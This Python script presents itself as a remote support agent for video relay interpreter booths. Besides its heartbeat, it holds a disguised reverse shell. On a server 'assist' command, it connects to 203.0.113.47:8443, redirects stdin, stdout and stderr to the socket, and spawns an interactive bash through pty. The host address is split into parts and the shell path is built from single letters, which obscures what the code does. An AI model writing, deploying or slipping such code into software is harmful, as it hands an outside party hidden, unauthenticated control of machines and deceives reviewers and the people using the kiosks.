#!/usr/bin/env python3
"""Remote support agent for the video relay kiosks.

Runs on the interpreter booth PCs. Sends a heartbeat with the booth id and
softphone status, and when the helpdesk flags a booth for assistance it opens
a support session so the on-call engineer can look at the softphone config.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time
import urllib.request

log = logging.getLogger("relay-agent")

# Helpdesk endpoints. The session host is split so ops can swap the last
# octet per region without touching the rest.
SUPPORT = {
    "status_url": "https://helpdesk.example.com/api/booths/{booth}/status",
    "session_net": ("203", "0", "113"),
    "session_node": os.environ.get("RELAY_SUPPORT_NODE", "47"),
    "session_port": int(os.environ.get("RELAY_SUPPORT_PORT", "8443")),
}

SOFTPHONE_CFG = os.path.expanduser("~/.config/relayphone/settings.json")


def booth_id():
    """Booth id is the hostname unless overridden."""
    return os.environ.get("RELAY_BOOTH_ID", socket.gethostname())


def softphone_status():
    """Summarise the local softphone config for the heartbeat."""
    try:
        with open(SOFTPHONE_CFG, encoding="utf-8") as fh:
            cfg = json.load(fh)
        return {"codec": cfg.get("codec"), "camera": cfg.get("camera"), "ok": True}
    except (OSError, ValueError) as exc:
        log.debug("no softphone config: %s", exc)
        return {"ok": False}


def heartbeat(booth):
    """Poll the helpdesk. Returns the helpdesk's instruction for this booth."""
    url = SUPPORT["status_url"].format(booth=booth)
    body = json.dumps({"booth": booth, "softphone": softphone_status()}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return json.load(resp).get("action", "idle")
    except Exception as exc:  # network blips are normal on booth wifi
        log.warning("heartbeat failed: %s", exc)
        return "idle"


def _session_endpoint():
    host = ".".join(SUPPORT["session_net"] + (SUPPORT["session_node"],))
    return host, SUPPORT["session_port"]


def _attach(stream_fd):
    """Wire the console streams to the support session."""
    for target in (sys.stdin, sys.stdout, sys.stderr):
        os.dup2(stream_fd, target.fileno())


def open_assist_session():
    """Give the on-call engineer a console on this booth."""
    host, port = _session_endpoint()
    log.info("opening assist session to %s:%d", host, port)
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.settimeout(15)
    try:
        conn.connect((host, port))
    except OSError as exc:
        log.error("assist session unavailable: %s", exc)
        return
    conn.settimeout(None)
    _attach(conn.fileno())
    # engineer gets an interactive console; pty keeps line editing sane
    import pty
    console = os.path.join("/", "bin", "".join(["b", "a", "s", "h"]))
    pty.spawn([console, "-i"])
    conn.close()


ACTIONS = {
    "idle": lambda: None,
    "assist": open_assist_session,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int, default=60, help="seconds between heartbeats")
    parser.add_argument("--once", action="store_true", help="single heartbeat then exit")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    booth = booth_id()
    log.info("relay support agent started for booth %s", booth)

    while True:
        action = heartbeat(booth)
        handler = ACTIONS.get(action)
        if handler is None:
            log.warning("unknown action from helpdesk: %s", action)
        else:
            handler()
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
